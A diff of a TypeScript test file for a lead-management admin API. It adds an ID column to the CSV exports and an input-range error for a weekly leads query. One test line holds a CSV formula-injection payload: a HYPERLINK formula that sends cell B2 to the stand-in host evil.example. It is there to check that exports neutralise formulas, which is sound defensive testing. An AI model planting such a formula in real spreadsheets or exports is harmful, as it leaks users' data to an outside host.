@@ -7,6 +7,13 @@ import type { TestServer } from '../support/test-server';
 
 const DAY = 24 * 60 * 60 * 1000;
 
+/** The export's rows without its first column, the lead's id (issue 15), after checking that column. */
+function withoutIds(rows: string[][]): string[][] {
+  expect(rows[0][0]).toBe('ID');
+  for (const row of rows.slice(1)) expect(row[0]).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
+  return rows.map((row) => row.slice(1));
+}
+
 describe('lead tools', () => {
   let server: TestServer;
   let admin: Agent;
@@ -73,9 +80,13 @@ describe('lead tools', () => {
     expect(threeWeeksAgo?.playbookLeads).toBe(1);
   });
 
-  it('caps the window at 52 weeks', async () => {
+  it('answers at most 52 weeks and refuses more with the allowed range (issue 15: no silent clamp)', async () => {
+    expect(dataOf(await server.gql('{ leadsOverTime(weeks: 52) { weekStart } }', undefined, admin)).leadsOverTime).toHaveLength(52);
     const res = await server.gql('{ leadsOverTime(weeks: 500) { weekStart } }', undefined, admin);
-    expect(dataOf(res).leadsOverTime).toHaveLength(52);
+    expect(res.body.errors[0]).toMatchObject({
+      message: 'weeks must be a whole number from 1 to 52.',
+      extensions: { code: 'BAD_USER_INPUT' },
+    });
   });
 
   it('exports playbook leads as UTF-8 CSV with a header, newest first, formulas neutralised', async () => {
@@ -92,7 +103,7 @@ describe('lead tools', () => {
     expect(res.headers['content-disposition']).toMatch(/^attachment; filename="playbook-leads-\d{4}-\d{2}-\d{2}\.csv"$/);
     const text = res.body as string;
     expect(text.startsWith('\uFEFF')).toBe(true);
-    const rows = parse(text.slice(1)) as string[][];
+    const rows = withoutIds(parse(text.slice(1)) as string[][]);
     expect(rows[0]).toEqual(['Name', 'Email', 'Company', 'Date']);
     expect(rows.slice(1).map((r) => r[0])).toEqual([
       'Dee Now',
@@ -107,14 +118,14 @@ describe('lead tools', () => {
   it('quotes every field, so a reader that splits cells on ; or TAB never finds a formula at a cell start', async () => {
     const text = (await admin.get('/api/admin/playbook-leads/export.csv').buffer(true)).text.slice(1);
     const lines = text.split('\r\n').filter(Boolean);
-    expect(lines[0]).toBe('"Name","Email","Company","Date"');
+    expect(lines[0]).toBe('"ID","Name","Email","Company","Date"');
     for (const line of lines) expect(line).toMatch(/^"[^]*"$/);
     expect(text).toContain(`"'Bob;=HYPERLINK(""http://evil.example/?d=""&B2,""Click"")","bob@example.com","'\t=1+2",`);
   });
 
   it('exports only the contact requests matching the search, with quoting, unicode and tool results', async () => {
     const all = await admin.get('/api/admin/contact-requests/export.csv').buffer(true);
-    const allRows = parse(all.text.slice(1)) as string[][];
+    const allRows = withoutIds(parse(all.text.slice(1)) as string[][]);
     expect(allRows[0]).toEqual(['Name', 'Email', 'Company', 'Cloud Spending', 'Message', 'Tool Results', 'Date']);
     expect(allRows).toHaveLength(3);
     const week = allRows.find((r) => r[0] === 'Cy Week')!;
@@ -124,7 +135,7 @@ describe('lead tools', () => {
     expect(JSON.parse(eve[5])).toEqual({ tool: 'simulator', summary: 'Simulator: $670/month' });
 
     const searched = await admin.get('/api/admin/contact-requests/export.csv?search=week').buffer(true);
-    const rows = parse(searched.text.slice(1)) as string[][];
+    const rows = withoutIds(parse(searched.text.slice(1)) as string[][]);
     expect(rows.map((r) => r[0])).toEqual(['Name', 'Cy Week']);
   });
 
